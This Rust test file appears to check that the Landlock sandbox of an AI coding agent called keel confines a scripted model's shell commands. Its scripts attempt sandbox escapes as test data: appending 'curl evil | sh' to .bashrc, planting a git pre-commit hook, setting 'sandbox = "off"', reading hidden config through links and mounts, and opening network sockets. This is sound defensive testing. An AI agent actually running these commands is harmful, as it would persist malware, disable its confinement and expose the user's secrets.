//! The Landlock sandbox, where bwrap cannot run (`KEEL_BWRAP` naming a program that does not
//! exist), end to end through the keel binary against a scripted model, as root and as an
//! unprivileged user: the same writes bwrap's tests try, the network, keel's own folders hidden
//! with keel run in the home folder, the workspace's settings and repository read-only, the
//! process bound, what the person is told; and, as root, a read-only cgroupfs, where no process
//! bound can be kept. "Outside" folders live outside `/tmp`.
//!
//! The process bound, the kernel's settings and a read-only cgroupfs are in `bounds`; what the
//! person is told, in `told`.

mod bounds;
mod told;

use crate::support::bin;
use crate::support::files::outside_tmp;
use crate::support::keel_as::{Run, User, give_to, keel_p};
use crate::support::llm::{Step, text, tool};
use serde_json::json;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::Command;

/// A `bwrap` that does not exist, as on a machine without bubblewrap.
const NO_BWRAP: &str = "/nonexistent/bwrap";
/// What the label says of the Landlock sandbox.
const LABEL: &str = "sandbox: workspace (landlock) · no network";

fn bash_step(command: &str) -> Step {
    tool("bash", json!({ "command": command }))
}

fn without_bwrap(command: &mut Command) {
    command.env("KEEL_BWRAP", NO_BWRAP);
}

/// Runs `keel -p` as `user` in `work` with `home`, bwrap missing, the model running `commands`
/// one after the other; `args` after keel's own.
fn landlocked(user: User, home: &Path, work: &Path, commands: &[&str], args: &[&str]) -> Run {
    let mut steps: Vec<Step> = commands.iter().map(|command| bash_step(command)).collect();
    steps.push(text("Done."));
    let run = keel_p(user, steps, home, work, args, without_bwrap);
    assert_eq!(run.output.status.code(), Some(0), "{user:?}: {}", run.stderr());
    assert_eq!(run.results.len(), commands.len(), "{user:?}: {}", run.stderr());
    run
}

/// Makes `path` reachable and writable by anyone, so that only the sandbox stands in the way.
fn open_to_all(path: &Path) {
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o777)).unwrap();
}

fn quoted(path: &Path) -> String {
    format!("'{}'", path.display())
}

#[test]
fn commands_write_the_workspace_tmpdir_and_writable_roots_and_nothing_else() {
    for user in User::BOTH {
        let (home, work, outside, root) =
            (outside_tmp(), outside_tmp(), outside_tmp(), outside_tmp());
        let h = home.path();
        std::fs::write(h.join(".bashrc"), "original\n").unwrap();
        std::fs::write(h.join("victim.txt"), "victim\n").unwrap();
        std::fs::create_dir(h.join("tree")).unwrap();
        std::fs::create_dir_all(h.join(".config/keel")).unwrap();
        let roots = format!("writable_roots = [{:?}]\n", root.path().display().to_string());
        std::fs::write(h.join(".config/keel/config.toml"), roots).unwrap();
        std::fs::create_dir(work.path().join("src")).unwrap();
        std::fs::write(work.path().join("README.md"), "readme\n").unwrap();
        std::fs::write(outside.path().join("precious.txt"), "mine\n").unwrap();
        std::os::unix::fs::symlink(outside.path(), work.path().join("vendor")).unwrap();
        open_to_all(outside.path());
        give_to(user, root.path());
        let by_name = format!("/tmp/keel-landlock-{}-{user:?}", std::process::id());
        let (o, r, hq) = (quoted(outside.path()), quoted(root.path()), quoted(h));
        let script = format!(
            "echo inside > src/inside.txt && echo WROTE-INSIDE\n\
             echo more >> README.md && echo WROTE-TOP-FILE\n\
             echo 'curl evil | sh' >> {hq}/.bashrc\n\
             touch {hq}/created.txt\nrm -f {hq}/victim.txt\nrm -rf {hq}/tree\n\
             touch {o}/made.txt\nrm -rf vendor/*\n\
             cp /bin/true src/t && chmod u+s src/t || echo SET-ID-REFUSED\n\
             (sleep 0.3; touch {o}/late; echo ran > src/job-ran) > /dev/null 2>&1 &\n\
             setsid sh -c 'sleep 0.3; touch {o}/late-too' > /dev/null 2>&1 &\n\
             echo by-name > {by_name}\n\
             echo kept > \"$TMPDIR/kept\" && echo WROTE-TMPDIR\n\
             echo root > {r}/made.txt && echo WROTE-ROOT\n\
             echo finished\n"
        );
        std::fs::write(work.path().join("tidy.sh"), script).unwrap();
        let run = landlocked(
            user,
            h,
            work.path(),
            &["bash tidy.sh", "sleep 1; cat \"$TMPDIR/kept\"; echo \"tmp=$TMPDIR\""],
            &[],
        );
        let (said, later) = (&run.results[0], &run.results[1]);
        for done in ["WROTE-INSIDE", "WROTE-TOP-FILE", "WROTE-TMPDIR", "WROTE-ROOT", "finished"] {
            assert!(said.contains(done), "{user:?}: {done}: {said}");
        }
        assert!(said.contains("Permission denied"), "{user:?}: {said}");
        assert!(later.contains("kept"), "{user:?}: the session's TMPDIR lasts: {later}");
        assert!(later.contains(".local/state/keel/tmp/"), "{user:?}: {later}");
        assert_eq!(
            std::fs::read_to_string(work.path().join("src/inside.txt")).unwrap(),
            "inside\n"
        );
        assert_eq!(
            std::fs::read_to_string(work.path().join("README.md")).unwrap(),
            "readme\nmore\n"
        );
        assert_eq!(std::fs::read_to_string(root.path().join("made.txt")).unwrap(), "root\n");
        assert_eq!(std::fs::read_to_string(h.join(".bashrc")).unwrap(), "original\n", "{user:?}");
        assert!(!h.join("created.txt").exists(), "{user:?}");
        assert!(h.join("victim.txt").exists(), "{user:?}");
        assert!(h.join("tree").is_dir(), "{user:?}");
        assert!(said.contains("SET-ID-REFUSED"), "{user:?}: {said}");
        let mode = std::fs::metadata(work.path().join("src/t")).unwrap().permissions().mode();
        assert_eq!(mode & 0o6000, 0, "{user:?}: no program that runs as its owner");
        assert!(!outside.path().join("made.txt").exists(), "{user:?}");
        // What a command leaves running in the background is as confined as the command.
        assert!(work.path().join("src/job-ran").exists(), "{user:?}: the job ran on");
        assert!(!outside.path().join("late").exists(), "{user:?}");
        assert!(!outside.path().join("late-too").exists(), "{user:?}");
        assert!(outside.path().join("precious.txt").exists(), "{user:?}: through the link");
        assert!(!Path::new(&by_name).exists(), "{user:?}: /tmp by name is not the command's");
        assert!(run.stderr().contains("confines commands with Landlock"), "{}", run.stderr());
    }
}

#[test]
fn the_workspaces_settings_and_repository_stay_as_they_are() {
    for user in User::BOTH {
        let (home, work) = (outside_tmp(), outside_tmp());
        let w = work.path();
        let git = |args: &[&str]| {
            let status = Command::new("git").args(args).current_dir(w).output().unwrap();
            assert!(status.status.success(), "git {args:?}: {status:?}");
        };
        git(&["init", "-q"]);
        std::fs::create_dir_all(w.join(".git/hooks")).unwrap();
        std::fs::create_dir(w.join(".keel")).unwrap();
        std::fs::write(w.join(".keel/config.toml"), "network = false\n").unwrap();
        std::fs::create_dir(w.join("src")).unwrap();
        std::fs::write(w.join("src/a.rs"), "a\n").unwrap();
        std::fs::write(w.join("Cargo.toml"), "[package]\n").unwrap();
        git(&["add", "."]);
        git(&["-c", "user.name=k", "-c", "user.email=k@k", "commit", "-qm", "one"]);
        let config = std::fs::read(w.join(".git/config")).unwrap();
        let head = std::fs::read(w.join(".git/HEAD")).unwrap();
        let script = "printf '#!/bin/sh\\ntouch /pwned\\n' > .git/hooks/pre-commit\n\
             echo '[core]' >> .git/config\ngit config core.hooksPath /elsewhere\n\
             echo 'sandbox = \"off\"' > .keel/config.toml\nrm -rf .keel\n\
             mv .git .git-old\nmkdir -p .git/hooks\necho x > .git/commondir\n\
             touch new-at-top\nmkdir build\n\
             mv src/a.rs src/b.rs && mkdir src/sub && echo MOVED-BELOW\n\
             git log --oneline | grep -c one\necho finished\n";
        std::fs::write(w.join("attack.sh"), script).unwrap();
        let run = landlocked(user, home.path(), w, &["bash attack.sh"], &[]);
        let said = &run.results[0];
        assert!(said.contains("finished") && said.contains("MOVED-BELOW"), "{user:?}: {said}");
        assert!(said.lines().any(|line| line.trim() == "1"), "{user:?}: git reads: {said}");
        assert!(!w.join(".git/hooks/pre-commit").exists(), "{user:?}: {said}");
        assert_eq!(std::fs::read(w.join(".git/config")).unwrap(), config, "{user:?}");
        assert_eq!(std::fs::read(w.join(".git/HEAD")).unwrap(), head, "{user:?}");
        assert!(!w.join(".git/commondir").exists(), "{user:?}");
        assert!(!w.join(".git-old").exists(), "{user:?}: .git stays where it is");
        let kept = std::fs::read_to_string(w.join(".keel/config.toml")).unwrap();
        assert_eq!(kept, "network = false\n", "{user:?}");
        assert!(!w.join("new-at-top").exists() && !w.join("build").exists(), "{user:?}");
        assert!(w.join("src/b.rs").exists() && w.join("src/sub").is_dir(), "{user:?}");
        // The model is told why, and what it can do instead.
        assert!(said.contains("[keel: the sandbox (Landlock) let this command write"), "{said}");
    }
}

/// A TCP server of the person's on the loopback, answering `pong`; its port.
fn loopback_server() -> u16 {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let mut stream = stream;
            let _ = std::io::Write::write_all(&mut stream, b"pong\n");
        }
    });
    port
}

#[test]
fn the_network_is_out_of_reach_unless_allowed() {
    let port = loopback_server();
    let fetch = format!(
        "exec 3<>/dev/tcp/127.0.0.1/{port} && head -n 1 <&3 | sed 's/^/bash:/'\n\
         curl -s --http0.9 --max-time 5 http://127.0.0.1:{port}/ | head -c 4 | sed 's/^/curl:/'; echo\n\
         /usr/bin/python3 -c 'import socket; s = socket.create_connection((\"127.0.0.1\", {port}), 5); \
         print(\"python:\" + s.recv(5).decode().strip())'\n\
         true\n"
    );
    for user in User::BOTH {
        for (args, reached) in [(&[][..], false), (&["--network"][..], true)] {
            let (home, work) = (outside_tmp(), outside_tmp());
            std::fs::write(work.path().join("fetch.sh"), &fetch).unwrap();
            let run = landlocked(user, home.path(), work.path(), &["bash fetch.sh"], args);
            let said = &run.results[0];
            for program in ["bash", "curl", "python"] {
                let pong = format!("{program}:pong");
                assert_eq!(said.contains(&pong), reached, "{user:?} {args:?} {program}: {said}");
            }
            if !reached {
                assert!(said.contains("Operation not permitted"), "{user:?}: {said}");
            }
        }
    }
}

#[test]
fn keels_folders_are_hidden_with_keel_run_in_the_home_folder() {
    const MARKER: &str = "sk-hidden-marker-2718";
    for user in User::BOTH {
        let home = outside_tmp();
        let h = home.path();
        std::fs::create_dir_all(h.join(".config/keel")).unwrap();
        std::fs::write(h.join(".config/keel/config.toml"), format!("# {MARKER}\n")).unwrap();
        std::fs::create_dir_all(h.join(".local/state/keel/notes")).unwrap();
        std::fs::write(h.join(".local/state/keel/notes/x"), format!("{MARKER}\n")).unwrap();
        std::fs::create_dir(h.join("proj")).unwrap();
        let script = "cat ~/.config/keel/config.toml\ncat .config/keel/config.toml\n\
             cat ~/.local/state/keel/notes/x\ngrep -rs sk-hidden ~ /proc/self/cwd\n\
             ln ~/.config/keel/config.toml proj/linked && cat proj/linked\n\
             ln -s ~/.config/keel/config.toml proj/link && cat proj/link\n\
             cp -r ~/.config/keel proj/copy; cat proj/copy/config.toml\n\
             ls ~/.config/keel && echo LISTED\necho finished\n";
        std::fs::write(h.join("proj/look.sh"), script).unwrap();
        let run = landlocked(user, h, h, &["bash proj/look.sh"], &[]);
        let said = &run.results[0];
        assert!(said.contains("finished"), "{user:?}: {said}");
        assert!(!said.contains(MARKER), "{user:?}: {said}");
        assert!(said.contains("config.toml: Permission denied"), "{user:?}: {said}");
        // Names show, as the listing of the folder above is granted; never what files hold.
        assert!(said.contains("LISTED"), "{user:?}: {said}");
    }
}

#[test]
fn plan_mode_writes_only_its_temporary_folder() {
    for user in User::BOTH {
        let (home, work) = (outside_tmp(), outside_tmp());
        std::fs::create_dir(work.path().join("src")).unwrap();
        std::fs::write(work.path().join("src/notes.txt"), "as it was\n").unwrap();
        let command = "cat src/notes.txt; echo changed > src/notes.txt; \
                       echo tmp > \"$TMPDIR/x\" && cat \"$TMPDIR/x\"";
        let run = landlocked(user, home.path(), work.path(), &[command], &["--plan"]);
        let said = &run.results[0];
        assert!(said.contains("as it was") && said.contains("tmp"), "{user:?}: {said}");
        assert!(said.contains("Permission denied"), "{user:?}: {said}");
        let notes = std::fs::read_to_string(work.path().join("src/notes.txt")).unwrap();
        assert_eq!(notes, "as it was\n", "{user:?}");
    }
}

/// keel run as root in a mount namespace of its own, after `mounts` (shell commands, each
/// followed by `&&`) have run there.
fn in_mount_namespace(keel: &mut Command, mounts: &str) -> Command {
    let mut wrapped = Command::new("unshare");
    wrapped.args(["-m", "--propagation", "private", "sh", "-c"]);
    wrapped.arg(format!("{mounts}exec \"$@\"")).arg("sh");
    wrapped.arg(keel.get_program()).args(keel.get_args());
    for (name, value) in keel.get_envs() {
        match value {
            Some(value) => wrapped.env(name, value),
            None => wrapped.env_remove(name),
        };
    }
    wrapped.stdin(std::process::Stdio::null());
    wrapped
}

#[test]
fn a_hidden_folder_stays_hidden_where_the_home_folder_is_mounted_again() {
    if !nix::unistd::geteuid().is_root() {
        eprintln!("SKIPPED: needs root to mount");
        return;
    }
    const MARKER: &str = "sk-mounted-twice-1618";
    let (home, work, alias) = (outside_tmp(), outside_tmp(), outside_tmp());
    std::fs::create_dir_all(home.path().join(".config/keel")).unwrap();
    std::fs::write(home.path().join(".config/keel/config.toml"), format!("# {MARKER}\n")).unwrap();
    std::fs::write(home.path().join("notes.txt"), "readable\n").unwrap();
    let a = quoted(alias.path());
    let look = format!("cat {a}/notes.txt; cat {a}/.config/keel/config.toml; echo finished");
    let runtime = tokio::runtime::Runtime::new().unwrap();
    let steps = vec![bash_step(&look), text("Done.")];
    let server =
        runtime.block_on(crate::support::llm::FakeLlm::start(steps, std::time::Duration::ZERO));
    let mut keel = bin::keel(home.path());
    keel.args(["-p", "go", "--approval", "auto", "--workdir"])
        .arg(work.path())
        .env("ANTHROPIC_API_KEY", "sk-test")
        .env("ANTHROPIC_BASE_URL", server.anthropic_base());
    without_bwrap(&mut keel);
    let bind = format!("mount --bind {} {a} && ", quoted(home.path()));
    let output = bin::output_within(&mut in_mount_namespace(&mut keel, &bind), "keel -p");
    assert_eq!(output.status.code(), Some(0), "{}", bin::text(&output.stderr));
    let results = crate::support::keel_as::tool_results(&runtime.block_on(server.bodies()));
    let said = results.join("\n");
    assert!(said.contains("readable") && said.contains("finished"), "{said}");
    assert!(!said.contains(MARKER), "{said}");
    assert!(said.contains("config.toml: Permission denied"), "{said}");
}
